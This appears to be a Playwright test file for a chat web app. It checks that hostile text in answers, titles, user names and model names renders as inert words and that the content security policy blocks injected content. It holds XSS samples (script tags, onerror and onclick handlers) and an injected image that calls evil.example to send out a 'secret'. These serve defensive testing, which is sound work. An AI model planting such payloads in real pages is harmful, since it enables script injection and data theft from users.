"""Whatever a model, a person or a model server says, the page shows it as words: nothing runs, nothing is fetched.

That no dialog opens, no other host is asked and the content security policy is never violated is what every window of
these tests is held to; here the words try hard.
"""

import pytest
from playwright.sync_api import expect

from tests.rendering.checks import ATTRIBUTES, HTML_TAGS, MATH
from tests.rendering.test_withstand_hostile_text import PAYLOADS

from . import villain
from .people import sign_up
from .screen import Screen, too_wide

pytestmark = pytest.mark.browser

# So many payloads in one answer; a fence that is left open swallows what comes after it, hence more than one answer.
ANSWERS = 6
LETTERS_PER_TOKEN = 7

# Notes every element and attribute that ever stands in an answer, also for one frame only.
OBSERVE = """
    () => {
      window.met = new Set();
      const meet = node => {
        if (node.nodeType !== Node.ELEMENT_NODE) return;
        const where = node.closest(".prose, [data-text], [data-thinking], [data-title]");
        if (where && where !== node && !node.closest("[data-local]")) {
          window.met.add(node.localName);
          for (const { name } of node.attributes) window.met.add(`${node.localName} ${name}`);
        }
        for (const child of node.children) meet(child);
      };
      new MutationObserver(changes => {
        for (const { target, addedNodes } of changes) [target, ...addedNodes].forEach(meet);
      }).observe(document, { subtree: true, childList: true, attributes: true });
      if (document.documentElement) meet(document.documentElement);
    }
"""
ALLOWED = set(HTML_TAGS.split()) | MATH
ALLOWED_ATTRIBUTES = {f"{tag} {name}" for tag, names in ATTRIBUTES.items() for name in names}


def portions() -> list[list[str]]:
    return [PAYLOADS[start::ANSWERS] for start in range(ANSWERS)]


def foreign(screen: Screen) -> set[str]:
    """Return the elements and attributes met so far that no answer may have; formulas have attributes of their own."""
    met = set(screen.page.evaluate("[...window.met]"))
    tags = {name for name in met if " " not in name}
    attributes = {name for name in met - tags if name.split()[0] not in MATH}
    scripted = {name for name in met - tags if name.split()[1].startswith("on") or name.split()[1] in {"style", "src"}}
    return (tags - ALLOWED) | (attributes - ALLOWED_ATTRIBUTES) | scripted


@pytest.mark.parametrize("portion", portions(), ids=range(ANSWERS))
def test_hostile_words_stay_words_while_they_stream_and_after(screen, fake, portion):
    text = "\n\n".join(portion).replace("\x00", "").encode(errors="replace").decode()
    cut = [text[start : start + LETTERS_PER_TOKEN] for start in range(0, len(text), LETTERS_PER_TOKEN)]
    fake.script(tokens=cut, thinking=text[:400], rate=300)
    screen.page.evaluate(OBSERVE)
    question = text[:2000].replace("\r", "")
    screen.ask_whole(question)
    assert foreign(screen) == set()
    assert screen.html() == screen.rendered(text)
    links = screen.prose.locator("a[href]").evaluate_all("links => links.map(link => link.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:"}
    live = screen.shown()

    screen.page.context.add_init_script(f"({OBSERVE})()")
    screen.reload()
    expect(screen.page.locator("chat-thread:defined")).to_be_attached()
    assert foreign(screen) == set()
    assert screen.shown() == live
    shown = screen.questions.locator("[data-text]").evaluate("node => [node.textContent, node.childElementCount]")
    assert shown == [question.strip(), 0]
    title = screen.page.locator("h1[data-title]")
    assert title.evaluate("node => node.childElementCount") == 0
    assert screen.page.locator(f"#chat-{screen.conversation} [data-title]").text_content() == title.text_content()


def test_a_hostile_title_is_a_title(screen, fake):
    fake.script(text="Named.")
    screen.ask_whole("<script>alert('title')</script>")
    title = "\"><img src=x onerror=alert('title')> </title><script>alert(1)</script>"
    row = screen.page.locator(f"#chat-{screen.conversation}")
    expect(row).to_contain_text("<script>alert('title')</script>")
    row.hover()
    row.get_by_role("button").click()
    screen.page.get_by_role("button", name="Rename", exact=True).click()
    screen.page.get_by_label("Title", exact=True).fill(title)
    screen.page.keyboard.press("Enter")
    expect(screen.page).to_have_title(f"{title} · Chatsite")
    screen.reload()
    expect(screen.page).to_have_title(f"{title} · Chatsite")
    expect(row.locator("[data-title]")).to_have_text(title)
    expect(row.get_by_role("button")).to_have_attribute("aria-label", f"Options for {title}")
    row.hover()
    row.get_by_role("button").click()
    screen.page.get_by_role("button", name="Tags…").click()
    expect(screen.page.locator("#tagging")).to_contain_text(title)


@pytest.mark.parametrize("name", villain.NAMES)
def test_a_hostile_model_is_offered_by_its_name_and_its_complaint_is_a_sentence(screen, name):
    screen.page.locator("[popovertarget=model-menu]").click()
    screen.page.locator("#model-menu label").filter(has_text=name).click()
    screen.page.keyboard.press("Escape")
    expect(screen.page.locator("[data-model-name]")).to_have_text(name)
    screen.ask("Behave")
    expect(screen.ends).to_have_attribute("data-status", "failed")
    expect(screen.ends.locator(".notice")).to_contain_text(villain.COMPLAINT)
    expect(screen.ends.locator(".meta")).to_contain_text(name)
    screen.reload()
    expect(screen.ends.locator(".notice")).to_contain_text(villain.COMPLAINT)
    expect(screen.page.locator("[data-model-name]")).to_have_text(name)
    assert too_wide(screen.page) <= 0


def test_a_hostile_name_is_a_name(server, window):
    name = "<b onclick=alert(1)>Eve</b>"
    eve = sign_up(server.url, name=name)
    screen = Screen(window(eve).new_page(), eve).open()
    expect(screen.page.get_by_role("heading", name=f"Hello, {name}")).to_be_visible()
    expect(screen.page.locator(".side-foot .name")).to_have_text(name)


ATTACK = """
    () => {
      window.refused = [];
      addEventListener("securitypolicyviolation", event => window.refused.push(event.effectiveDirective));
      const picture = "<img hidden src=https://evil.example/?d=secret onerror='window.ran = 1'>";
      document.body.insertAdjacentHTML("beforeend", picture);
      document.body.append(Object.assign(document.createElement("script"), { textContent: "window.ran = 2" }));
    }
"""


def test_the_policy_would_stop_what_got_through(browser, ada):
    context = ada.enter(browser.new_context())
    screen = Screen(context.new_page(), ada).open()
    screen.page.evaluate(ATTACK)
    expected = {"img-src", "script-src-attr", "script-src-elem"}
    screen.until(lambda: expected <= set(screen.page.evaluate("window.refused")))
    assert screen.page.evaluate("window.ran") is None
    context.close()
